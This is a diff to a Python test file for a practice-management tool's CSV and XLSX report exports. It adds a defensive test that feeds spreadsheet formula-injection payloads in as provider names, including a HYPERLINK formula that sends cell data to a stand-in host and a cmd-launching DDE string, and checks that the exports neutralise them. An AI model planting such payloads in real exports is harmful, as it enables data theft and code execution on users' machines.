@@ -4,6 +4,7 @@ their CSV and XLSX exports and the CLI."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
@@ -116,7 +117,7 @@ def test_exports_carry_the_same_rows(practice: Store, tmp_path: Path) -> None:
         found = report_pages.all_reports(work, today=TODAY)
     assert [r.id for r in found] == list(report_pages.REPORTS)
     text = report_pages.to_csv(found[0])
-    assert text.splitlines()[0].startswith("Month,Charges,Insurance paid")
+    assert next(csv.reader(io.StringIO(text)))[:3] == ["Month", "Charges", "Insurance paid"]
     book = load_workbook(io.BytesIO(report_pages.to_xlsx(found)))
     assert book.sheetnames == [r.id for r in found]
     sheet = book["revenue"]
@@ -124,6 +125,32 @@ def test_exports_carry_the_same_rows(practice: Store, tmp_path: Path) -> None:
     assert rows[0][0] == "Revenue and collections by month"
     money = sum(r[1] for r in rows[2:] if r and isinstance(r[1], (int, float)))
     assert round(money * 100) == found[0].figures["charges_cents"]
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?"&A1, "Click")', "+SUM(1+1)*cmd|' /C calc'!A0",
+     "@SUM(1)", "Lee\x01, Pat\x1f", "\x00=1+1"],
+)  # fmt: skip
+def test_exports_never_hold_a_formula_or_a_character_a_workbook_refuses(
+    practice: Store, tmp_path: Path, name: str
+) -> None:
+    """A provider or payer name is typed by people (and by the API's generated requests,
+    which found a name with a control character making every XLSX export fail: openpyxl's
+    IllegalCharacterError). OWASP "CSV Injection": no cell starts a formula; XML 1.0: no C0
+    control but tab, line feed and carriage return."""
+    paid_practice(practice, tmp_path)
+    found = report(practice, "productivity")
+    found.rows = [[name, *row[1:]] for row in found.rows]
+    (header, row) = list(csv.reader(io.StringIO(report_pages.to_csv(found))))
+    assert header[0] == "Provider" and not row[0].startswith(("=", "+", "-", "@"))
+    book = load_workbook(io.BytesIO(report_pages.to_xlsx([found])))
+    (cell,) = [r[0] for r in book["productivity"].iter_rows(values_only=True)][2:3]
+    assert isinstance(cell, str) and not cell.startswith(("=", "+", "-", "@"))
+    assert not any(ord(c) < 32 and c not in "\t\n\r" for c in cell)
+    assert cell.lstrip("'").replace("\x01", "").replace("\x1f", "") == (
+        name.replace("\x01", "").replace("\x1f", "").replace("\x00", "")
+    )
 
 
 @pytest.mark.parametrize(
@@ -152,7 +179,7 @@ def test_the_cli_prints_json_and_writes_csv_and_xlsx(
     assert (
         runner.invoke(app, ["reports", "revenue", "--by", "code", "--csv", str(out)]).exit_code == 0
     )
-    assert out.read_text().startswith("Code,Charges")
+    assert out.read_text().startswith('"Code","Charges"')
     book = tmp_path / "all.xlsx"
     assert runner.invoke(app, ["reports", "--xlsx", str(book)]).exit_code == 0
     assert load_workbook(book).sheetnames[0] == "revenue"
